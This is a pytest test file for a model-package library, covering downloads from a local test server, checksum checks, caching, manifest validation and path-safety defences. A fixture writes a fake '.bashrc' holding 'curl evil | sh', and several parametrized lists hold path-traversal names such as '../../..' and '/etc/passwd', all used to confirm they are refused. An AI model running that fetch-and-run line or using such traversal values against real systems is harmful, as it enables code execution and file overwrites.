"""taskflow.packages: manifests, the cache, resolution, downloads and packing.

Downloads go to a real HTTP server on 127.0.0.1 started by the ``server``
fixture; nothing about HTTP is mocked.  The server is scripted per test
(error statuses, dropped connections, slow answers, no Range support) and
records every request it sees, so a test can say exactly what went over the wire.
"""

from __future__ import annotations

import functools
import hashlib
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from taskflow import downloads, packages
from taskflow.errors import (
    ChecksumError,
    DownloadError,
    ManifestError,
    ModelNotFoundError,
    OfflineModeError,
    UnknownModelError,
)
from taskflow.downloads import download_file
from taskflow.manifest import Manifest
from taskflow.packages import pack, resolve, write_package


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def payload(size: int, seed: int = 0) -> bytes:
    return random.Random(seed).randbytes(size)


def files_under(directory: Path) -> list[str]:
    """Every file below ``directory`` (relative, sorted); [] when it does not exist."""
    if not directory.exists():
        return []
    return sorted(str(p.relative_to(directory)) for p in directory.rglob("*") if not p.is_dir())


# ----------------------------------------------------------------- the server

class FileServer:
    """What the test controls and observes; the handler below reads it."""

    def __init__(self, root: Path, url: str):
        self.root, self.url = root, url
        self.requests: list[tuple[str, str | None]] = []  # (path, Range header)
        self.status: dict[str, int] = {}  # path -> error status to answer
        self.drop: dict[str, tuple[int, int]] = {}  # path -> (bytes to send, on the first K requests)
        self.gate = threading.Event()  # a body is sent once this is set (tests hold a download open)
        self.gate.set()
        self.ignore_range = False
        self.redirect: dict[str, str] = {}  # path -> URL to answer 302 with
        self.endless: dict[str, int] = {}  # path -> bytes to stream without a Content-Length, then close
        self.sent: dict[str, int] = {}  # path -> bytes of an endless answer written before the client hung up
        self.false_gzip: set[str] = set()  # paths answered with Content-Encoding: gzip and a body that is not
        self.lock = threading.Lock()

    def put(self, path: str, data: bytes) -> str:
        """Serve ``data`` at ``/path`` and return its URL."""
        file = self.root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(data)
        return f"{self.url}/{path}"

    def count(self, path: str) -> int:
        return sum(1 for p, _ in self.requests if p == "/" + path)

    def ranges(self, path: str) -> list[str | None]:
        return [r for p, r in self.requests if p == "/" + path]


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # keep-alive, so a dropped connection is a real truncation

    def do_GET(self):
        script: FileServer = self.server.script
        path = unquote(urlsplit(self.path).path)
        asked = self.headers.get("Range")
        with script.lock:
            script.requests.append((path, asked))
            nth = sum(1 for p, _ in script.requests if p == path)
        if path in script.status:
            self.send_error(script.status[path])
            return
        if path in script.redirect:
            self.send_response(302)
            self.send_header("Location", script.redirect[path])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if path in script.endless:
            self._stream_endless(script, path)
            return
        file = script.root / path.lstrip("/")
        if not file.is_file():
            self.send_error(404)
            return
        body = file.read_bytes()
        start = 0
        if asked and not script.ignore_range:
            start = int(re.fullmatch(r"bytes=(\d+)-", asked).group(1))
            self.send_response(206)
            self.send_header("Content-Range", f"bytes {start}-{len(body) - 1}/{len(body)}")
        else:
            self.send_response(200)
        self.send_header("Content-Length", str(len(body) - start))
        if path in script.false_gzip:
            self.send_header("Content-Encoding", "gzip")
        self.end_headers()
        body = body[start:]
        if path in script.drop and nth <= script.drop[path][1]:
            body = body[: script.drop[path][0]]
            self.close_connection = True  # the client sees EOF before Content-Length
        script.gate.wait(timeout=60)
        self.wfile.write(body)

    def _stream_endless(self, script: FileServer, path: str):
        self.send_response(200)
        self.send_header("Connection", "close")   # no Content-Length: the body ends when the server closes
        self.end_headers()
        self.close_connection = True
        block, sent = b"x" * (1 << 16), 0
        try:
            while sent < script.endless[path]:
                self.wfile.write(block)
                sent += len(block)
        except (BrokenPipeError, ConnectionResetError):
            pass
        script.sent[path] = sent

    def log_message(self, *args):
        pass


@pytest.fixture
def server(tmp_path):
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    root = tmp_path / "served"
    root.mkdir()
    httpd.script = FileServer(root, f"http://127.0.0.1:{httpd.server_address[1]}")
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield httpd.script
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(5)


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A cache of this test's own (the session one is shared with other tests)."""
    path = tmp_path / "home"
    monkeypatch.setenv("PPNLP_HOME", str(path))
    return path


# ------------------------------------------------------------ download_file

@pytest.mark.network
def test_download_file_writes_verified_bytes_and_shows_progress(server, tmp_path, capfd, monkeypatch):
    data = payload(10_000)
    url = server.put("pkg/weights.bin", data)
    dest = tmp_path / "dl" / "weights.bin"
    # Every update redraws (no 0.1 s refresh interval to outlast), so the bar is drawn at 100%: no timing.
    import taskflow.display
    from tqdm import tqdm

    monkeypatch.setattr(taskflow.display, "progress_bar", lambda **options: tqdm(mininterval=0, **options))

    assert download_file(url, dest, sha256=sha256(data), size=len(data), progress=True, backoff=0) == dest

    assert dest.read_bytes() == data
    assert os.listdir(dest.parent) == ["weights.bin"]  # no temporary file left beside it
    err = capfd.readouterr().err
    assert "weights.bin" in err and "100%" in err


@pytest.mark.network
def test_download_file_is_quiet_without_progress_and_skips_a_good_file(server, tmp_path, capfd):
    data = payload(3000)
    url = server.put("a.bin", data)
    dest = tmp_path / "dl" / "a.bin"

    download_file(url, dest, sha256=sha256(data), size=len(data), progress=False)
    download_file(url, dest, sha256=sha256(data), size=len(data), progress=False)

    assert dest.read_bytes() == data
    assert server.count("a.bin") == 1  # the second call found the file already verified
    assert "a.bin" not in capfd.readouterr().err


@pytest.mark.network
def test_download_404_names_the_url_and_is_not_retried(server, tmp_path):
    url = f"{server.url}/missing/file.bin"
    with pytest.raises(DownloadError) as info:
        download_file(url, tmp_path / "dl" / "file.bin", sha256="0" * 64, backoff=0)
    assert info.value.status == 404
    assert info.value.url == url and url in str(info.value)
    assert server.count("missing/file.bin") == 1
    assert files_under(tmp_path / "dl") == []


@pytest.mark.network
def test_download_500_is_retried_with_backoff_then_fails(server, tmp_path, caplog):
    url = server.put("flaky.bin", b"x")
    server.status["/flaky.bin"] = 500
    sleeps: list[float] = []

    with pytest.raises(DownloadError) as info:
        download_file(url, tmp_path / "dl" / "flaky.bin", sha256=sha256(b"x"), retries=2, backoff=0.01,
                      sleep=sleeps.append)

    assert info.value.status == 500
    assert info.value.url == url and url in str(info.value)
    assert server.count("flaky.bin") == 3
    assert sleeps == [0.01, 0.02]
    assert files_under(tmp_path / "dl") == []
    # Each wait is said as it starts, so a script's log shows why it waits.
    assert [r.getMessage() for r in caplog.records if "trying again" in r.getMessage()] == [
        f"GET {url} answered HTTP 500; trying again in 0.01 s (attempt 2 of 3)",
        f"GET {url} answered HTTP 500; trying again in 0.02 s (attempt 3 of 3)"]


@pytest.mark.network
def test_download_checksum_mismatch_leaves_nothing(server, tmp_path):
    data = payload(5000)
    url = server.put("w.bin", data)
    dest_dir = tmp_path / "cache"
    dest_dir.mkdir()
    (dest_dir / "keep.txt").write_text("unrelated")

    with pytest.raises(ChecksumError) as info:
        download_file(url, dest_dir / "w.bin", sha256=sha256(b"other"), size=len(data), backoff=0)

    assert info.value.url == url
    assert os.listdir(dest_dir) == ["keep.txt"]  # no w.bin, no temporary file
    with pytest.raises(ChecksumError):
        download_file(url, tmp_path / "new" / "w.bin", sha256=sha256(b"other"), backoff=0)
    assert files_under(tmp_path / "new") == []


@pytest.mark.network
def test_dropped_connection_is_resumed_with_a_range_request(server, tmp_path):
    data = payload(300_000)
    url = server.put("big.bin", data)
    server.drop["/big.bin"] = (100_000, 1)
    dest = tmp_path / "dl" / "big.bin"

    download_file(url, dest, sha256=sha256(data), size=len(data), backoff=0)

    assert dest.read_bytes() == data
    first, second = server.ranges("big.bin")
    assert first is None
    assert re.fullmatch(r"bytes=[1-9]\d*-", second), second
    assert os.listdir(dest.parent) == ["big.bin"]


@pytest.mark.network
def test_dropped_connection_restarts_when_the_server_ignores_range(server, tmp_path):
    data = payload(300_000, seed=1)
    url = server.put("big.bin", data)
    server.drop["/big.bin"] = (100_000, 1)
    server.ignore_range = True
    dest = tmp_path / "dl" / "big.bin"

    download_file(url, dest, sha256=sha256(data), size=len(data), backoff=0)

    assert dest.read_bytes() == data  # a 200 answer to a Range request is taken as the whole file
    assert server.count("big.bin") == 2
    assert os.listdir(dest.parent) == ["big.bin"]


@pytest.mark.network
def test_dropped_connection_without_known_size_is_still_resumed(server, tmp_path):
    data = payload(200_000, seed=2)
    url = server.put("big.bin", data)
    server.drop["/big.bin"] = (50_000, 2)
    dest = tmp_path / "dl" / "big.bin"

    download_file(url, dest, sha256=sha256(data), backoff=0)

    assert dest.read_bytes() == data
    assert server.count("big.bin") == 3


# --------------------------------------------------------------- resolution

TASK, MODEL, VERSION = "toy_task", "toy", "1.2"
FILES = {"weights.bin": payload(150_000, seed=3), "vocab.txt": "的\n一\n是\n".encode()}


def make_package(directory: Path, files: dict[str, bytes] = FILES) -> Manifest:
    sources = directory.parent / f"{directory.name}-sources"
    sources.mkdir(parents=True)
    for name, data in files.items():
        (sources / name).write_bytes(data)
    return write_package(
        directory,
        {"task": TASK, "name": MODEL, "version": VERSION, "labels": ["a", "b"]},
        {name: sources / name for name in files},
    )


@pytest.fixture
def pinned(tmp_path, monkeypatch, server, home):
    """A model taskflow pins (manifest only, no bundled weights) that ``server`` hosts."""
    manifest = make_package(tmp_path / "package")
    pack(tmp_path / "package", server.root)
    bundled = tmp_path / "bundled"
    (bundled / TASK / MODEL).mkdir(parents=True)
    (bundled / TASK / MODEL / "manifest.json").write_bytes((tmp_path / "package" / "manifest.json").read_bytes())
    monkeypatch.setattr(packages, "_bundled_root", lambda: bundled)
    return manifest


def served(name: str) -> str:
    return f"{TASK}/{MODEL}/{VERSION}/{name}"


@pytest.fixture
def connects(monkeypatch) -> list:
    """Every socket connection attempted during the test."""
    calls = []
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex

    def connect(self, address):
        calls.append(address)
        return real_connect(self, address)

    def connect_ex(self, address):
        calls.append(address)
        return real_connect_ex(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    return calls


@pytest.mark.network
def test_resolve_downloads_verifies_then_uses_the_cache(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url + "/")

    package = resolve(TASK, MODEL, progress=False)

    assert package.source == "download"
    assert package.directory == home / "taskflow" / TASK / MODEL / VERSION
    for name, data in FILES.items():
        assert package.path(name).read_bytes() == data
        assert server.count(served(name)) == 1
    assert json.loads((package.directory / ".verified").read_text())["fingerprint"] == pinned.fingerprint()
    assert files_under(package.directory) == sorted([".verified", *FILES])

    again = resolve(TASK, MODEL, progress=False)

    assert again.source == "cache" and again.directory == package.directory
    assert len(server.requests) == len(FILES)


@pytest.mark.network
@pytest.mark.parametrize("how", ["argument", "environment"])
def test_offline_mode_never_opens_a_socket_and_says_how_to_get_the_files(pinned, server, home, monkeypatch, connects, how):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    if how == "environment":
        monkeypatch.setenv("PPNLP_OFFLINE", "1")

    with pytest.raises(OfflineModeError) as info:
        resolve(TASK, MODEL, offline=True if how == "argument" else None)

    message = str(info.value)
    for name in FILES:
        assert name in message
    assert "taskflow download" in message
    assert server.requests == []
    assert connects == []
    assert files_under(home / "taskflow" / TASK) == []


def test_no_endpoint_is_a_model_not_found_error_naming_the_variable(pinned, home):
    with pytest.raises(ModelNotFoundError) as info:
        resolve(TASK, MODEL)
    assert not isinstance(info.value, OfflineModeError)
    assert "PPNLP_ENDPOINT" in str(info.value)


@pytest.mark.network
def test_corrupted_cached_file_is_detected_and_downloaded_again(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    package = resolve(TASK, MODEL, progress=False)
    weights = package.path("weights.bin")
    corrupted = bytes(b ^ 0xFF for b in weights.read_bytes()[:16]) + weights.read_bytes()[16:]
    weights.write_bytes(corrupted)  # same size, different bytes
    (package.directory / ".verified").unlink()

    again = resolve(TASK, MODEL, progress=False)

    assert again.source == "download"
    assert weights.read_bytes() == FILES["weights.bin"]
    assert server.count(served("weights.bin")) == 2
    assert server.count(served("vocab.txt")) == 1  # the intact file is kept
    assert (again.directory / ".verified").is_file()


@pytest.mark.network
def test_tampered_file_on_the_server_is_refused(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    # weights.bin is the first file of the manifest, so nothing has been downloaded before it.
    tampered = server.root / served("weights.bin")
    tampered.write_bytes(payload(len(FILES["weights.bin"]), seed=99))

    with pytest.raises(ChecksumError):
        resolve(TASK, MODEL, progress=False)

    assert files_under(home / "taskflow" / TASK) == []


@pytest.mark.network
def test_http_error_during_resolve_names_the_url(pinned, server, home, monkeypatch):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    (server.root / served("vocab.txt")).unlink()

    with pytest.raises(DownloadError) as info:
        resolve(TASK, MODEL, progress=False)

    assert info.value.status == 404
    assert info.value.url == f"{server.url}/{served('vocab.txt')}"


_CHILD = textwrap.dedent("""
    import json, sys
    from pathlib import Path
    import taskflow.packages as packages

    packages._bundled_root = lambda: Path(sys.argv[1])
    print("ready", flush=True)
    sys.stdin.readline()  # start together
    real_lock = packages.download_lock

    class Traced:   # says when this process, having found the cache empty, asks for the lock
        def __init__(self, lock):
            self.lock = lock

        def __enter__(self):
            print("locking", flush=True)
            return self.lock.__enter__()

        def __exit__(self, *exc):
            return self.lock.__exit__(*exc)

    packages.download_lock = lambda home, key: Traced(real_lock(home, key))
    package = packages.resolve(sys.argv[2], sys.argv[3], progress=False)
    print(json.dumps({"source": package.source, "dir": str(package.directory)}), flush=True)
""")


@pytest.mark.slow
@pytest.mark.network
def test_two_processes_download_a_file_once(pinned, server, home, monkeypatch, tmp_path):
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    server.gate.clear()  # the first download stays open until both processes have asked for the lock
    children = [
        subprocess.Popen(
            [sys.executable, "-c", _CHILD, str(packages._bundled_root()), TASK, MODEL],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )
        for _ in range(2)
    ]
    try:
        for child in children:
            assert child.stdout.readline().strip() == "ready", child.stderr.read()
        for child in children:
            child.stdin.write("go\n")
            child.stdin.flush()
        for child in children:   # both found the cache empty and asked for the lock (one holds it)
            assert child.stdout.readline().strip() == "locking", child.stderr.read()
        server.gate.set()
        results = [child.communicate(timeout=60) for child in children]
    finally:
        for child in children:
            if child.poll() is None:
                child.kill()
                child.wait()

    for child, (out, err) in zip(children, results):
        assert child.returncode == 0, err
        answer = json.loads(out.strip().splitlines()[-1])
        # Both found the cache empty, so they really overlapped; the lock made one wait.
        assert answer["source"] == "download"
        assert answer["dir"] == str(home / "taskflow" / TASK / MODEL / VERSION)
    for name, data in FILES.items():
        assert server.count(served(name)) == 1
        assert (home / "taskflow" / TASK / MODEL / VERSION / name).read_bytes() == data


_DOWNLOADER = textwrap.dedent("""
    import sys
    from pathlib import Path
    import taskflow.downloads as downloads

    downloads.download_file(sys.argv[1], Path(sys.argv[2]), sha256=sys.argv[3], size=int(sys.argv[4]), progress=False)
    print("done", flush=True)
""")


def _temps(directory: Path) -> list[Path]:
    return sorted(directory.glob(".*.tmp"))


def wait_for(predicate, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


@pytest.mark.slow
@pytest.mark.network
def test_a_killed_download_leaves_no_temporary_file_and_a_live_one_keeps_its_own(pinned, server, home, monkeypatch):
    """A download killed with SIGKILL leaves its temporary file; the next download of that file removes
    it once it is a few minutes old.  Another process's download of the same file, alive (stopped here)
    under another lock, keeps its temporary file however old it is, and finishes."""
    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
    cache = home / "taskflow" / TASK / MODEL / VERSION
    dest, data = cache / "weights.bin", FILES["weights.bin"]
    command = [sys.executable, "-c", _DOWNLOADER, f"{server.url}/{served('weights.bin')}", str(dest), sha256(data),
               str(len(data))]
    server.gate.clear()   # each download has its answer's headers, not its body: its temporary file is open
    killed = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    live = None
    try:
        assert wait_for(lambda: len(_temps(cache)) == 1, 60), killed.stderr.read() if killed.poll() is not None else ""
        left, = _temps(cache)
        killed.kill()
        killed.wait()
        live = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert wait_for(lambda: len(_temps(cache)) == 2, 60), live.stderr.read() if live.poll() is not None else ""
        live_temp, = set(_temps(cache)) - {left}
        live.send_signal(signal.SIGSTOP)
        old = time.time() - 3600   # an hour: past the few minutes a temporary file is given
        for path in (left, live_temp):
            os.utime(path, (old, old))
        server.gate.set()
        package = resolve(TASK, MODEL, progress=False)   # takes the download lock of each missing file
        assert package.source == "download" and dest.read_bytes() == data
        assert _temps(cache) == [live_temp], "the killed download's file is left, or the live one's was removed"
    finally:
        server.gate.set()
        if killed.poll() is None:
            killed.kill()
            killed.wait()
        if live is not None:
            live.send_signal(signal.SIGCONT)
    out, err = live.communicate(timeout=60)
    assert live.returncode == 0 and out.strip() == "done", err
    assert _temps(cache) == [] and dest.read_bytes() == data


# ----------------------------------------------------------------- manifests

GOOD_ENTRY = {"sha256": sha256(b"w"), "size": 1}


def manifest_dict(**changes):
    data = {"task": TASK, "name": MODEL, "version": VERSION, "files": {"w.bin": dict(GOOD_ENTRY)}}
    data.update(changes)
    return {key: value for key, value in data.items() if value is not None}


def test_manifest_from_dict_reads_fields():
    manifest = Manifest.from_dict(manifest_dict(version=3, labels=["neg", "pos"]))
    assert (manifest.task, manifest.name, manifest.version) == (TASK, MODEL, "3")
    assert manifest["labels"] == ["neg", "pos"]
    assert manifest.get("missing", 7) == 7
    with pytest.raises(ManifestError, match="no field 'missing'"):
        manifest["missing"]


@pytest.mark.parametrize("field", ["task", "name", "version", "files"])
def test_manifest_missing_field(field):
    data = manifest_dict()
    del data[field]
    with pytest.raises(ManifestError, match=field):
        Manifest.from_dict(data)


@pytest.mark.parametrize(
    "files",
    [
        pytest.param([], id="files-not-object"),
        pytest.param({}, id="no-files"),
        pytest.param({"w.bin": "abc"}, id="entry-not-object"),
        pytest.param({"w.bin": {"size": 1}}, id="no-sha256"),
        pytest.param({"w.bin": {"sha256": GOOD_ENTRY["sha256"]}}, id="no-size"),
        pytest.param({"w.bin": {"sha256": "abc", "size": 1}}, id="short-sha256"),
        pytest.param({"w.bin": {"sha256": GOOD_ENTRY["sha256"].upper(), "size": 1}}, id="uppercase-sha256"),
        pytest.param({"w.bin": {"sha256": GOOD_ENTRY["sha256"], "size": "1"}}, id="size-str"),
        pytest.param({"w.bin": {"sha256": GOOD_ENTRY["sha256"], "size": -1}}, id="size-negative"),
        pytest.param({"w.bin": {"sha256": GOOD_ENTRY["sha256"], "size": True}}, id="size-bool"),
    ],
)
def test_manifest_bad_file_entries(files):
    with pytest.raises(ManifestError):
        Manifest.from_dict(manifest_dict(files=files))


@pytest.mark.parametrize("name", ["sub/w.bin", "../w.bin", "/etc/passwd", "sub\\w.bin", "..", ".", "", "manifest.json"])
def test_manifest_file_names_must_be_plain(name):
    with pytest.raises(ManifestError):
        Manifest.from_dict(manifest_dict(files={name: dict(GOOD_ENTRY)}))


def test_manifest_from_dict_rejects_non_object():
    with pytest.raises(ManifestError, match="JSON object"):
        Manifest.from_dict(["task"])


def test_manifest_load(tmp_path):
    path = tmp_path / "manifest.json"
    with pytest.raises(ModelNotFoundError, match="manifest.json"):
        Manifest.load(path)
    path.write_text("{not json", encoding="utf-8")
    with pytest.raises(ManifestError, match="not valid JSON"):
        Manifest.load(path)
    path.write_text(json.dumps(manifest_dict(files={"a/b": dict(GOOD_ENTRY)})), encoding="utf-8")
    with pytest.raises(ManifestError, match=re.escape(str(path))):
        Manifest.load(path)
    path.write_text(json.dumps(manifest_dict()), encoding="utf-8")
    assert Manifest.load(path).files == {"w.bin": GOOD_ENTRY}


def test_task_path_is_verified(tmp_path):
    make_package(tmp_path / "mine")

    package = resolve(TASK, None, task_path=tmp_path / "mine")
    assert package.source == "task_path" and package.directory == tmp_path / "mine"
    assert package.path("vocab.txt").read_bytes() == FILES["vocab.txt"]

    (tmp_path / "mine" / "weights.bin").write_bytes(payload(len(FILES["weights.bin"]), seed=42))
    with pytest.raises(ChecksumError, match="weights.bin"):
        resolve(TASK, None, task_path=tmp_path / "mine")


def test_task_path_for_another_task_or_missing_file(tmp_path):
    make_package(tmp_path / "mine")
    with pytest.raises(ManifestError, match=TASK):
        resolve("other_task", None, task_path=tmp_path / "mine")
    (tmp_path / "mine" / "vocab.txt").unlink()
    with pytest.raises(ModelNotFoundError, match="vocab.txt"):
        resolve(TASK, None, task_path=tmp_path / "mine")
    with pytest.raises(ModelNotFoundError):
        resolve(TASK, None, task_path=tmp_path / "nowhere")


# ------------------------------------------------------- writing packages

def test_write_package_pins_every_file(tmp_path):
    manifest = make_package(tmp_path / "pkg")

    on_disk = json.loads((tmp_path / "pkg" / "manifest.json").read_text(encoding="utf-8"))
    assert on_disk == dict(manifest.data)
    assert on_disk["labels"] == ["a", "b"]
    assert on_disk["files"] == {name: {"sha256": sha256(data), "size": len(data)} for name, data in FILES.items()}
    assert files_under(tmp_path / "pkg") == sorted(["manifest.json", *FILES])


def test_write_package_writes_the_manifest_last_and_atomically(tmp_path, monkeypatch):
    """A reader must never see a manifest before its files, nor a half-written one."""
    sources = tmp_path / "src"
    sources.mkdir()
    for name, data in FILES.items():
        (sources / name).write_bytes(data)
    out = tmp_path / "pkg"
    seen = []
    real_replace = os.replace

    def replace(src, dst):
        dst = Path(dst)
        seen.append((dst.name, (out / "manifest.json").exists(), files_under(out)))
        if dst.name == "manifest.json":
            json.loads(Path(src).read_text(encoding="utf-8"))  # complete before it appears
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    write_package(out, {"task": TASK, "name": MODEL, "version": VERSION}, {n: sources / n for n in FILES})

    assert [name for name, _, _ in seen][-1] == "manifest.json"
    assert not any(had_manifest for _, had_manifest, _ in seen)
    assert all(name in seen[-1][2] for name in FILES)


def test_write_package_with_a_missing_source_leaves_no_manifest(tmp_path):
    (tmp_path / "w.bin").write_bytes(b"w")
    with pytest.raises(FileNotFoundError):
        write_package(tmp_path / "pkg", {"task": TASK, "name": MODEL, "version": VERSION},
                      {"w.bin": tmp_path / "w.bin", "gone.bin": tmp_path / "gone.bin"})
    assert not (tmp_path / "pkg" / "manifest.json").exists()
    assert all(not name.endswith(".tmp") for name in files_under(tmp_path / "pkg"))


def test_write_package_in_place(tmp_path):
    (tmp_path / "w.bin").write_bytes(b"weights")
    manifest = write_package(tmp_path, {"task": TASK, "name": MODEL, "version": VERSION}, {"w.bin": tmp_path / "w.bin"})
    assert manifest.files == {"w.bin": {"sha256": sha256(b"weights"), "size": 7}}
    assert (tmp_path / "w.bin").read_bytes() == b"weights"


def test_pack_lays_out_a_servable_tree(tmp_path):
    manifest = make_package(tmp_path / "pkg")

    out = pack(tmp_path / "pkg", tmp_path / "www")

    assert out == tmp_path / "www" / TASK / MODEL / VERSION
    assert files_under(tmp_path / "www") == sorted(f"{TASK}/{MODEL}/{VERSION}/{n}" for n in ["manifest.json", *FILES])
    for name, data in FILES.items():
        assert (out / name).read_bytes() == data
    assert Manifest.load(out / "manifest.json") == manifest


def test_pack_refuses_a_package_whose_files_were_edited(tmp_path):
    make_package(tmp_path / "pkg")
    (tmp_path / "pkg" / "vocab.txt").write_bytes(b"edited")
    with pytest.raises(ChecksumError, match="vocab.txt"):
        pack(tmp_path / "pkg", tmp_path / "www")
    assert files_under(tmp_path / "www") == []


# ------------------------------------------------ names that become paths

UNSAFE_NAMES = ["/home/u", "../../..", "..", ".", "", "a/b", "a\\b", "C:evil", "x\x00y", "x\ny", ".hidden", " 1.0"]


@pytest.mark.parametrize("field", ["task", "name", "version"])
@pytest.mark.parametrize("value", UNSAFE_NAMES)
def test_task_name_and_version_must_be_one_plain_name(field, value):
    with pytest.raises(ManifestError, match=f"'{field}'"):
        Manifest.from_dict(manifest_dict(**{field: value}))


@pytest.mark.parametrize("version", [True, 1.5, ["1"]])
def test_version_is_a_str_or_an_int(version):
    with pytest.raises(ManifestError, match="'version'"):
        Manifest.from_dict(manifest_dict(version=version))


@pytest.mark.parametrize("name", [".bashrc", ".verified", ".ssh", "static", "C:x", "a\x00b", "a\tb"])
def test_file_names_starting_with_a_dot_or_reserved_are_refused(name):
    # Dot names are taskflow's own bookkeeping (.verified, temporary .NAME.tmp files) and hidden
    # settings files (.bashrc); "static" is the export folder of a cached package.
    with pytest.raises(ManifestError, match=re.escape(repr(name))):
        Manifest.from_dict(manifest_dict(files={name: dict(GOOD_ENTRY)}))


@pytest.mark.parametrize("ref", ["../../elsewhere", "/abs/pkg", "a/b/c", "./", "./.hidden", "task/..", 7])
def test_requires_names_a_pinned_model_or_a_folder_inside(ref):
    with pytest.raises(ManifestError, match="requires 'lexical'"):
        Manifest.from_dict(manifest_dict(requires={"lexical": ref}))
    assert Manifest.from_dict(manifest_dict(requires={"a": "./lexical", "b": "lexical_analysis/bigru_crf"}))


def _hand_made_package(directory: Path, files: dict[str, bytes], **fields) -> Path:
    """A package whose manifest is written as given, as a stranger could (write_package would refuse it)."""
    directory.mkdir(parents=True)
    for name, data in files.items():
        (directory / name).write_bytes(data)
    manifest = {"task": TASK, "name": MODEL, "version": VERSION, **fields,
                "files": {name: {"sha256": sha256(data), "size": len(data)} for name, data in files.items()}}
    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return directory


@pytest.mark.parametrize("version", ["home", "../../.."])
def test_pack_cannot_write_outside_its_destination(tmp_path, version):
    # The proof: a version naming a folder (absolute, or climbing out of DEST) and a .bashrc.
    victim = tmp_path / "home"
    victim.mkdir()
    (victim / ".bashrc").write_text("precious")
    version = str(victim) if version == "home" else version
    package = _hand_made_package(tmp_path / "pkg", {".bashrc": b"curl evil | sh\n"}, version=version)
    www = tmp_path / "a" / "b" / "www"
    www.mkdir(parents=True)

    with pytest.raises(ManifestError, match="'version'"):
        pack(package, www)

    assert (victim / ".bashrc").read_text() == "precious"
    assert files_under(tmp_path / "a") == []


def test_pack_refuses_a_symlink_in_its_destination(tmp_path):
    make_package(tmp_path / "pkg")
    outside = tmp_path / "outside"
    outside.mkdir()
    www = tmp_path / "www"
    www.mkdir()
    (www / TASK).symlink_to(outside, target_is_directory=True)   # planted in a shared folder

    with pytest.raises(ManifestError, match="outside"):
        pack(tmp_path / "pkg", www)

    assert files_under(outside) == []


@pytest.mark.parametrize("bad", ["../x", "/tmp/x", ".x", "a/b"])
def test_cache_folders_are_built_from_plain_names_only(home, bad):
    for parts in ((bad, MODEL, VERSION), (TASK, bad, VERSION), (TASK, MODEL, bad)):
        with pytest.raises(ManifestError):
            packages.cache_dir(*parts)
    assert not home.exists()


def test_a_model_name_that_is_a_path_is_no_pinned_model(tmp_path, home, monkeypatch):
    """resolve(task, model) reads only manifests shipped in the bundled folder: a task or model
    name that is a path (what `Taskflow(task, model="/any/dir/evil")` splits into) names none."""
    bundled = tmp_path / "bundled"
    bundled.mkdir()
    monkeypatch.setattr(packages, "_bundled_root", lambda: bundled)
    evil_dir = tmp_path / "any" / "dir"
    _hand_made_package(evil_dir / "evil", {"weights.bin": b"w"}, task=str(evil_dir), name="evil")
    make_package(bundled / TASK / "evil")   # beside the shipped ones, so ".." would find it

    with pytest.raises(UnknownModelError):
        resolve(str(evil_dir), "evil")
    with pytest.raises(UnknownModelError):
        resolve(TASK, "../" + TASK + "/evil")
    assert not home.exists()


# ------------------------------------------------ downloads: limits, warnings, credentials

@pytest.fixture
def warned(monkeypatch):
    """A process that has warned about no endpoint yet."""
    monkeypatch.setattr(downloads, "_WARNED", set())


@pytest.mark.network
def test_a_larger_answer_than_pinned_is_refused_at_once(server, tmp_path):
    data = payload(5000)
    url = server.put("w.bin", data)

    with pytest.raises(ChecksumError, match="more than the 1000 bytes") as info:
        download_file(url, tmp_path / "dl" / "w.bin", sha256=sha256(data[:1000]), size=1000, backoff=0)

    assert info.value.url == url
    assert server.count("w.bin") == 1   # not retried: the server holds another file
    assert files_under(tmp_path / "dl") == []


@pytest.mark.network
def test_an_endless_answer_is_cut_off_past_the_pinned_size(server, tmp_path):
    server.endless["/endless.bin"] = 64 << 20   # no Content-Length; 64 MB unless the client hangs up

    with pytest.raises(ChecksumError, match="more than the 100000 bytes"):
        download_file(f"{server.url}/endless.bin", tmp_path / "dl" / "endless.bin", sha256="0" * 64, size=100_000,
                      backoff=0, retries=4)

    assert server.count("endless.bin") == 1
    assert files_under(tmp_path / "dl") == []
    # The client hung up after the pinned size; what the server got out is what the sockets buffered.
    for _ in range(100):
        if "/endless.bin" in server.sent:
            break
        threading.Event().wait(0.05)
    assert server.sent["/endless.bin"] < 32 << 20


@pytest.mark.network
def test_plain_http_is_warned_about_once_per_endpoint(server, tmp_path, caplog, warned):
    urls = [server.put(name, name.encode()) for name in ("a.bin", "b.bin")]

    with caplog.at_level("WARNING", logger="taskflow"):
        for url in urls:
            download_file(url, tmp_path / "dl" / url.rsplit("/", 1)[1], sha256=sha256(url.rsplit("/", 1)[1].encode()))

    said = [r.getMessage() for r in caplog.records if "plain http" in r.getMessage()]
    assert len(said) == 1 and server.url in said[0]


@pytest.mark.network
